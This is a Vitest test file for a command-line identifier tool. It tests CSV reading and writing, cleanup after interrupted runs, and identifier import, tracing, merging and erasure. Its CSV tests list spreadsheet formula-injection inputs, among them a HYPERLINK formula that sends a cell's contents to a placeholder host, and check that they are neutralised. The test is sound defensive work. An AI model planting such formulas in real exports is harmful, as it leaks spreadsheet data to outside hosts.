import { spawn } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CsvProblem, csvLine, readCsv } from '../../../src/cli/csv.ts';
import { folder } from '../config/settings.ts';
import { symbolon } from './run.ts';

async function* inPieces(text: string, size: number): AsyncGenerator<string> {
  for (let at = 0; at < text.length; at += size) yield text.slice(at, at + size);
}

async function parse(text: string, size = 3): Promise<[number, string[]][]> {
  const lines: [number, string[]][] = [];
  for await (const { line, cells } of readCsv(inPieces(text, size))) lines.push([line, cells]);
  return lines;
}

describe('comma-separated values', () => {
  it.each<[string, [number, string[]][]]>([
    [
      'a,b\r\n1,2\r\n',
      [
        [1, ['a', 'b']],
        [2, ['1', '2']],
      ],
    ],
    [
      '\uFEFFa;b\n\n1;"x;y"',
      [
        [1, ['a', 'b']],
        [3, ['1', 'x;y']],
      ],
    ],
    [
      '"a ""q""","l1\nl2",\nx,y,z',
      [
        [1, ['a "q"', 'l1\nl2', '']],
        [3, ['x', 'y', 'z']],
      ],
    ],
    ['', []],
  ])('are read as they are written: %j', async (text, expected) => {
    for (const size of [1, 3, 1_000]) expect(await parse(text, size)).toEqual(expected);
  });

  it.each([
    ['a,"b', 1],
    ['a\n"b"c,d', 2],
  ])('are refused by line when %j is none', async (text, line) => {
    const error = await parse(text).catch((thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(CsvProblem);
    expect(error).toMatchObject({ line });
  });

  it('are written so that they read back as they were', async () => {
    const cells = ['plain', 'a,b', 'a;b', 'say "x"', 'l1\nl2', ''];
    expect(await parse(csvLine(cells))).toEqual([[1, cells]]);
  });

  it.each([
    '=HYPERLINK("http://x.example/?"&A1)',
    '+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\u0000=1',
    '\u000b=1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20SUM(1)',
  ])('are never written so that a spreadsheet carries %j out, unless they are wanted raw', async (cell) => {
    expect(await parse(csvLine([cell, 'a=1']))).toEqual([[1, [`'${cell}`, 'a=1']]]);
    expect(csvLine([cell], true)).not.toContain("'");
  });

  it.each(['\n', '""""\n', 'x'])(
    'are refused within seconds when a quote stays open for a megabyte of %j',
    async (unit) => {
      const startMs = performance.now();
      const text = `id,x\n"${unit.repeat(1_000_000 / unit.length)}`;
      await expect(parse(text, 65_536)).rejects.toBeInstanceOf(CsvProblem);
      expect(performance.now() - startMs).toBeLessThan(5_000);
    },
  );

  it('are read in a time that grows with their length alone', async () => {
    const text = `id,x\n${`"${'""\n'.repeat(30_000)}",1\n`.repeat(10)}`;
    const startMs = performance.now();
    expect(await parse(text, 65_536)).toHaveLength(11);
    expect(performance.now() - startMs).toBeLessThan(10_000);
  });
});

describe('a report with references that is cut off', () => {
  const source = resolve(import.meta.dirname, '../../../src/cli/identifier-files.ts');

  it.each([
    ['SIGINT', 130],
    ['SIGTERM', 143],
    ['SIGHUP', 129],
  ] as const)('by %s leaves nothing behind', async (signal, code) => {
    using place = folder();
    place.write('report.csv', `customer_id\n${'c1abc\n'.repeat(500)}`);
    const out = `${place.path}/out.csv`;
    const asked = { file: `${place.path}/report.csv`, column: 'customer_id', out, reason: 'x', raw: false };
    const program = `import { existsSync } from 'node:fs';
      import { traceFile } from ${JSON.stringify(source)};
      let calls = 0;
      const call = async () => {
        if (++calls === 2) {
          console.log('half', existsSync(${JSON.stringify(`${out}.part`)}));
          process.kill(process.pid, ${JSON.stringify(signal)});
          await new Promise((done) => setTimeout(done, 10_000));
        }
        return { items: [{ customer_id: 'c1abc', state: 'living', reference: '4711' }] };
      };
      await traceFile({ call }, ${JSON.stringify(asked)});`;
    const child = spawn(process.execPath, ['--input-type=module-typescript', '--eval', program]);
    let output = '';
    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    const ended = await new Promise<number | null>((done) => child.on('close', done));
    expect([output.trim(), ended]).toEqual(['half true', code]);
    expect(readdirSync(place.path)).toEqual(['report.csv']);
  });
});

describe('identifiers from the command line', () => {
  let place: ReturnType<typeof folder>;
  beforeAll(() => {
    place = folder();
    place.write(
      'symbolon.yaml',
      'public_url: http://localhost:8080\nkeys:\n  generate: true\nauthenticators:\n  - name: staff\n    type: directory\n    reference_space: crm\nchannels:\n  - id: web\n    group: chat\n',
    );
  });
  afterAll(() => place[Symbol.dispose]());
  const run = (...args: string[]) => symbolon(args, { cwd: place.path, env: {} });
  const why = ['--reason', 'ticket 4711'];
  const OLD = '3f2504e0-4f89-41d3-9a0c-0305e82c3301';

  it('are refused with what would have been right', async () => {
    const short = await run('trace', OLD, '--reason', 'no');
    expect([short.code, short.stderr]).toEqual([2, expect.stringContaining('3 characters or more')]);
    place.write('wrong.csv', 'space,reference,group,identifier\nerp,1,chat,an-old-one-1\n');
    const space = await run('identifiers', 'import', 'wrong.csv', ...why);
    expect(space.stdout).toContain('No configured authenticator has this reference space. Configured: crm.');
    expect(space.stderr).toContain('1 line was refused.');
    place.write('report-0.csv', 'chat,who\n1,x\n');
    const column = await run('trace', '--file', 'report-0.csv', '--out', 'o.csv', ...why);
    expect(column.stderr).toContain('has no column "customer_id". Name the column that holds');
    expect(existsSync(`${place.path}/o.csv`)).toBe(false);
  });

  it('are told the same problems by a dry run and by the import: a refused line contradicts nothing', async () => {
    const lines = [
      'crm,5001,chat,first-old-1',
      'crm,5002,chat,',
      'crm',
      'crm,5003,nowhere,second-old-1',
      'crm,5004,chat,second-old-1',
      'crm,5002,chat,third-old-1',
      'crm,5001,chat,first-old-1',
      'crm,5005,chat,-begins-with-a-dash',
      // More lines than are sent at once lie between the first and the next.
      ...Array.from({ length: 250 }, (_, at) => `crm,${6000 + at},chat,many-old-${at}x`),
      'crm,5001,chat,first-old-1',
      'crm,5007,chat,FIRST-OLD-1',
      'crm,5001,chat,FIRST-OLD-1',
    ];
    place.write('lines.csv', ['space,reference,group,identifier', ...lines].join('\n'));
    const dry: Record<string, unknown> = JSON.parse(
      (await run('identifiers', 'import', 'lines.csv', '--dry-run', '--json', ...why)).stdout,
    );
    const done: Record<string, unknown> & { problems: { line: number }[] } = JSON.parse(
      (await run('identifiers', 'import', 'lines.csv', '--json', ...why)).stdout,
    );
    const { problems, dry_run: _real, ...counts } = done;
    expect(dry).toMatchObject(counts);
    expect(counts).toEqual({ imported: 253, known: 2, refused: 6 });
    expect(problems.map(({ line }) => line)).toEqual([3, 4, 5, 9, 261, 262]);
    expect(dry.problems).toEqual([
      ...problems.slice(0, -2),
      ...[261, 262].map((line) => ({ line, problem: 'It contradicts line 2.' })),
    ]);
  });

  it('are imported, traced, merged, and erased with a certificate that proves itself', async () => {
    place.write(
      'old.csv',
      `identifier;space;reference;group\n${OLD};crm;4711;chat\nbad id;crm;4712;chat\nother-old-1;crm;4713;chat\nOTHER-OLD-1;crm;4714;chat\n`,
    );
    const dry = await run('identifiers', 'import', 'old.csv', '--dry-run', '--json', ...why);
    expect([dry.code, JSON.parse(dry.stdout)]).toMatchObject([
      1,
      { imported: 2, known: 0, refused: 2, problems: [{ line: 3 }, { line: 5 }] },
    ]);
    expect(dry.stdout + dry.stderr).not.toContain('4711;');
    const done = await run('identifiers', 'import', 'old.csv', '--json', ...why);
    expect([done.code, JSON.parse(done.stdout)]).toMatchObject([
      1,
      { imported: 2, refused: 2, problems: [{ line: 3 }, { line: 5 }] },
    ]);

    place.write('report.csv', `chat,who,note\n1,${OLD},"a, b"\n2,nobody-here,\n`);
    const traced = await run('trace', '--file', 'report.csv', '--column', 'who', '--out', 'out.csv', ...why);
    expect([traced.code, traced.stderr]).toEqual([0, '']);
    const out = `${place.path}/out.csv`;
    expect(readFileSync(out, 'utf8')).toBe(
      `chat,who,note,trace_state,present_customer_id,reference_space,reference\n1,${OLD},"a, b",living,${OLD},crm,4711\n2,nobody-here,,unknown,,,\n`,
    );
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const again = await run('trace', '--file', 'report.csv', '--column', 'who', '--out', 'out.csv', ...why);
    expect(again.code).toBe(2);

    const merged = await run('identifiers', 'merge', 'other-old-1', '--into', OLD, '--json', ...why);
    expect(JSON.parse(merged.stdout)).toEqual({
      items: [{ channel_group: 'chat', customer_id: OLD, aliases: ['other-old-1'] }],
    });

    const other = await run('trace', 'other-old-1', ...why);
    expect(other.stdout).toContain(`other-old-1 is another name of ${OLD}`);

    expect((await run('identifiers', 'erase', OLD, ...why)).code).toBe(2);
    const erased = await run('identifiers', 'erase', OLD, '--yes', '--certificate', 'proof.json', ...why);
    expect([erased.code, erased.stderr]).toEqual([0, '']);
    expect(statSync(`${place.path}/proof.json`).mode & 0o777).toBe(0o600);
    expect((await run('identifiers', 'verify-certificate', 'proof.json')).code).toBe(0);
    place.write('forged.json', readFileSync(`${place.path}/proof.json`, 'utf8').replace('chat', 'shop'));
    expect((await run('identifiers', 'verify-certificate', 'forged.json')).code).toBe(1);
    expect((await run('trace', 'other-old-1', ...why)).code).toBe(1);
  }, 60_000);

  it.each([
    ['a report without the column', 'x,y\n1,2\n'],
    ['a report that is not text', '\u0000'],
    ['a report with an open quote', 'customer_id\n"c1'],
  ])('leave no file behind for %s', async (_what, text) => {
    place.write('bad.csv', text);
    const { code } = await run('trace', '--file', 'bad.csv', '--out', 'bad-out.csv', ...why);
    expect([code, existsSync(`${place.path}/bad-out.csv`)]).toEqual([2, false]);
    expect(existsSync(`${place.path}/bad-out.csv.part`)).toBe(false);
  });

  it('need a reason', async () => {
    for (const args of [
      ['trace', OLD],
      ['identifiers', 'disable', OLD],
      ['identifiers', 'split', OLD],
    ]) {
      expect((await run(...args)).code).toBe(2);
    }
  });
});
